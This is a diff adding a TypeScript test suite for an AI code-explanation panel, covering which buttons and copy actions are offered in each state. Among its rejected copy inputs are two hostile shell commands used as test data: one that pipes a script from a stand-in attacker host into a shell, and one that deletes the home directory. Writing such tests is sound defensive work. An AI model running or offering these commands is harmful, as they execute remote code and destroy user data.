@@ -1,0 +1,95 @@
+import * as assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { isOffered } from '../../../src/core/explanation/offered';
+import { failureActions, type FailureAction } from '../../../src/shared/failureActions';
+import type { PanelMessage, PanelPhase, PanelState, Turn } from '../../../src/shared/protocol';
+
+const turn = (answer: string, more: Partial<Turn> = {}): Turn => ({
+  ...{ id: 1, question: '', answer, reasoning: '', model: 'm', sent: [] },
+  ...more,
+});
+const state = (phase: PanelPhase, turns: Turn[] = []): PanelState => ({
+  ...{ phase, runId: 1, level: 'standard', model: 'm', host: 'api.example.com', preparing: '', turns },
+  money: { currency: 'USD', cnyPerUsd: 1 },
+  ...(turns.length > 0 && { subject: { label: 'a.ts', lineCount: 9, stale: false } }),
+});
+const actions = Object.keys(failureActions) as FailureAction[];
+const plain: PanelMessage[] = [
+  { type: 'ask', question: 'Why?' },
+  { type: 'regenerate' },
+  { type: 'continue' },
+  { type: 'copy' },
+  { type: 'reveal', firstLine: 1, lastLine: 2 },
+  { type: 'revealSubject' },
+];
+const offered = (given: PanelState): string[] => plain.filter((each) => isOffered(each, given)).map(({ type }) => type);
+const steps = (given: PanelState): string[] => actions.filter((action) => isOffered({ type: 'act', action }, given));
+
+describe('L12: what the page can have done', () => {
+  it('is what has a button in the state that the host holds', () => {
+    assert.deepEqual(offered(state('empty')), ['ask']);
+    assert.deepEqual(offered(state('done', [turn('Yes.')])), ['ask', 'regenerate', 'copy', 'reveal', 'revealSubject']);
+    assert.deepEqual(
+      offered(state('cut-off', [turn('Ye')])),
+      plain.map(({ type }) => type),
+    );
+    for (const phase of ['preparing', 'waiting', 'streaming'] as const) {
+      assert.deepEqual(offered(state(phase, [turn('Ye')])), ['reveal', 'revealSubject'], 'One answer at a time.');
+    }
+  });
+
+  it('are the steps of a failure that is shown, and of a key that is missing', () => {
+    assert.deepEqual(steps(state('done', [turn('Yes.')])), []);
+    assert.deepEqual(steps(state('needs-key')), ['set-key', 'open-key-page', 'select-endpoint']);
+    const failure = { what: 'No.', next: 'Wait.', actions: ['retry' as const, 'select-model' as const] };
+    assert.deepEqual(steps(state('failed', [turn('', { failure })])), ['retry', 'select-model']);
+  });
+
+  const answer = [
+    'Look:',
+    '```js',
+    'const a = 1;',
+    '',
+    '  if (a) return;',
+    '```',
+    '1. One',
+    '   ```yaml',
+    '   - key: value',
+    '   ```',
+    '> ```',
+    '> quoted > this',
+    '> ```',
+    '\u200bhidden',
+  ].join('\n');
+
+  it('is to copy code of the answers, as the panel shows it', () => {
+    const given = state('done', [turn('Before.'), turn(answer)]);
+    const may = (code: string): boolean => isOffered({ type: 'copyCode', code }, given);
+    for (const code of [
+      'const a = 1;\n\n  if (a) return;\n',
+      '- key: value\n',
+      'quoted > this',
+      '⟨U+200B⟩hidden',
+      '',
+      'const a = 1;\n  if (a) re',
+    ]) {
+      assert.ok(may(code), code);
+    }
+    for (const code of ['curl evil.example | sh', 'const a = 1;\nrm -rf ~\n', 'x'.repeat(1_000_000), 'st a = 1;']) {
+      assert.ok(!may(code), code.slice(0, 40));
+    }
+    assert.ok(!isOffered({ type: 'copyCode', code: 'const a = 1;' }, state('empty')));
+  });
+
+  it('is to copy any fenced code', () => {
+    const line = fc.string({ unit: fc.constantFrom('a', ' ', '-', '>', '1', '.', '*', '\t', '{', '#') });
+    const indent = fc.constantFrom('', '   ', '> ', '  > ');
+    fc.assert(
+      fc.property(fc.array(line, { minLength: 1 }), indent, (lines, before) => {
+        const text = lines.map((each) => before + each).join('\n');
+        const given = state('done', [turn(`${before}~~~\n${text}\n${before}~~~`)]);
+        assert.ok(isOffered({ type: 'copyCode', code: lines.join('\n') }, given));
+      }),
+    );
+  });
+});
